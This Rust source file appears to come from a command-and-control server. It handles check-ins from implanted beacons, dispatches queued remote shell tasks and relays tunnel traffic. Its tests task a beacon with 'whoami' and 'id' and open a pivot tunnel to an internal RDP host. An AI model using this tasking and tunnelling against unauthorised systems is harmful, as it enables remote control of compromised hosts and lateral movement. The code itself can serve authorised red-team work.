//! One beacon poll, end to end.
//!
//! Order matters: results and tunnel traffic from the beacon are applied
//! first, so an `exit` result or a tunnel STOP is reflected before the
//! response is built. Then queued tasks are dispatched and the beacon's
//! outbound tunnel queues are drained into the response.

use tracing::warn;

use crate::protocol::{CheckIn, CheckInResponse};
use crate::tasks::TaskManager;
use crate::tunnel::TunnelRegistry;

pub async fn handle_check_in(
    tasks: &TaskManager,
    tunnels: &TunnelRegistry,
    check_in: CheckIn,
) -> CheckInResponse {
    let CheckIn {
        beacon_id,
        hostname,
        results,
        tunnel,
        sleep_secs,
        jitter_pct,
    } = check_in;

    tasks.touch_beacon(&beacon_id, &hostname, sleep_secs.zip(jitter_pct));

    for result in results {
        let task_id = result.task_id.clone();
        if let Err(e) = tasks.complete(&beacon_id, result).await {
            warn!(beacon_id = %beacon_id, task_id = %task_id, code = e.code(), "Result rejected: {e}");
        }
    }

    for msg in tunnel {
        tunnels.on_beacon_message(&beacon_id, msg).await;
    }

    CheckInResponse {
        tasks: tasks.dispatch(&beacon_id).await,
        tunnel: tunnels.drain_outbound(&beacon_id).await,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::Arc;

    use crate::commands::builtin_registry;
    use crate::config::{TransferConfig, TunnelConfig};
    use crate::loot::LootStore;
    use crate::protocol::{TaskResult, TunnelCommand, TunnelMessage};
    use crate::store::MemoryStore;
    use crate::tasks::decode::DecodeChain;
    use crate::tasks::types::{TaskOrigin, TaskStatus};
    use crate::transfer::TransferManager;
    use crate::tunnel::TunnelStatus;

    fn setup(dir: &std::path::Path) -> (TaskManager, Arc<TunnelRegistry>) {
        let transfers = Arc::new(TransferManager::new(TransferConfig::default()));
        let tunnels = Arc::new(TunnelRegistry::new(TunnelConfig::default()));
        let tasks = TaskManager::new(
            Arc::new(MemoryStore::new()),
            Arc::new(builtin_registry(transfers.clone()).unwrap()),
            DecodeChain::default(),
            LootStore::new(dir),
            transfers,
            tunnels.clone(),
        );
        (tasks, tunnels)
    }

    fn poll(beacon: &str, results: Vec<TaskResult>, tunnel: Vec<TunnelMessage>) -> CheckIn {
        CheckIn {
            beacon_id: beacon.into(),
            hostname: "ws01".into(),
            results,
            tunnel,
            ..CheckIn::default()
        }
    }

    #[tokio::test]
    async fn full_round_trip() {
        let dir = tempfile::tempdir().unwrap();
        let (tasks, tunnels) = setup(dir.path());

        // First contact registers the beacon.
        let resp = handle_check_in(&tasks, &tunnels, poll("b1", vec![], vec![])).await;
        assert!(resp.tasks.is_empty());
        assert_eq!(tasks.get_beacon("b1").unwrap().hostname, "ws01");

        let task = tasks
            .create_task("b1", "shell", b"whoami".to_vec(), TaskOrigin::Operator("op".into()))
            .unwrap();
        let tunnel = tunnels.start("b1", "10.0.0.5:3389", "op").await.unwrap();

        let resp = handle_check_in(&tasks, &tunnels, poll("b1", vec![], vec![])).await;
        assert_eq!(resp.tasks.len(), 1);
        assert_eq!(resp.tunnel.len(), 1);
        assert_eq!(resp.tunnel[0].command, TunnelCommand::Start);

        let resp = handle_check_in(
            &tasks,
            &tunnels,
            poll(
                "b1",
                vec![TaskResult::ok(&task.task_id, b"root\n".to_vec())],
                vec![TunnelMessage::start_ack(&tunnel.tunnel_id, None)],
            ),
        )
        .await;
        assert!(resp.tasks.is_empty());
        assert_eq!(
            tasks.get_task(&task.task_id).unwrap().status,
            TaskStatus::Completed
        );
        assert_eq!(
            tunnels.get(&tunnel.tunnel_id).await.unwrap().status,
            TunnelStatus::Active
        );
    }

    #[tokio::test]
    async fn rejected_result_does_not_break_the_poll() {
        let dir = tempfile::tempdir().unwrap();
        let (tasks, tunnels) = setup(dir.path());
        handle_check_in(&tasks, &tunnels, poll("b1", vec![], vec![])).await;
        let task = tasks
            .create_task("b1", "shell", b"id".to_vec(), TaskOrigin::Policy)
            .unwrap();

        let resp = handle_check_in(
            &tasks,
            &tunnels,
            poll("b1", vec![TaskResult::ok("stale-id", b"x".to_vec())], vec![]),
        )
        .await;
        assert_eq!(resp.tasks.len(), 1);
        assert_eq!(resp.tasks[0].task_id, task.task_id);
    }

    #[tokio::test]
    async fn reported_interval_refreshes_the_beacon() {
        let dir = tempfile::tempdir().unwrap();
        let (tasks, tunnels) = setup(dir.path());

        let report = CheckIn {
            sleep_secs: Some(60),
            jitter_pct: Some(15),
            ..poll("b1", vec![], vec![])
        };
        handle_check_in(&tasks, &tunnels, report).await;
        let beacon = tasks.get_beacon("b1").unwrap();
        assert_eq!((beacon.sleep_secs, beacon.jitter_pct), (60, 15));

        // A poll without a report keeps the last known interval.
        handle_check_in(&tasks, &tunnels, poll("b1", vec![], vec![])).await;
        let beacon = tasks.get_beacon("b1").unwrap();
        assert_eq!((beacon.sleep_secs, beacon.jitter_pct), (60, 15));
    }
}
